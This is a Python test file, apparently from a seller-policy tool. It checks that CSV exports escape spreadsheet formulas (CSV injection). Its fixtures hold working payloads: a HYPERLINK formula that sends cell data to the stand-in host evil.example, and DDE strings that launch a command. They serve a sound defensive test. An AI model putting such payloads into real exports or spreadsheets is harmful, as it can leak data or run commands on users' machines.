"""CSV output never hands a spreadsheet a formula (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow as pa
import pytest
from runkit import AS_OF, healthy_facts, run_cli

from sellerpolicy.engine.batch.sinks import open_sink
from sellerpolicy.rules import load_pack

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_formula_cells_are_quoted_and_numbers_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    table = pa.table(
        {
            "seller_id": [*ATTACKS, "S-plain"],
            "status": pa.array(["=x", "ok", "ok", "ok", "ok", "ok", "-y"]).dictionary_encode(),
            "delta": [-5, 3, -1, 0, 2, 1, -7],
        }
    )
    with open_sink(out) as sink:
        sink.write(table)
    rows = _rows(out)
    assert [r["seller_id"] for r in rows] == ["'" + a for a in ATTACKS] + ["S-plain"]
    assert [r["status"] for r in rows][::6] == ["'=x", "'-y"]
    assert [r["delta"] for r in rows] == ["-5", "3", "-1", "0", "2", "1", "-7"]


def test_record_sink_quotes_formulas_too(tmp_path: Path) -> None:
    out = tmp_path / "records.csv"
    with open_sink(out) as sink:
        sink.write([{"seller_id": "=1+1", "actions": ["warn"], "score": -3}])
    (row,) = _rows(out)
    assert row["seller_id"] == "'=1+1"
    assert row["actions"] == '["warn"]'
    assert row["score"] == "-3"


@pytest.mark.parametrize("seller", ['=HYPERLINK("https://evil.example")', "@SUM(A1)"])
def test_evaluate_to_csv_neutralises_a_hostile_seller_id(tmp_path: Path, seller: str) -> None:
    """A seller id from the input file reaches the decisions CSV as text, not a formula."""
    facts = tmp_path / "facts.jsonl"
    facts.write_text(json.dumps(healthy_facts(load_pack("amazon"), seller, AS_OF)) + "\n")
    out = tmp_path / "decisions.csv"
    done = run_cli(
        "evaluate", "--pack", "amazon", "--facts", facts, "--as-of", AS_OF.isoformat(),
        "--out", out,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    (row,) = _rows(out)
    assert row["seller_id"] == "'" + seller
    assert all(not cell.startswith(("=", "+", "@")) for cell in row.values())
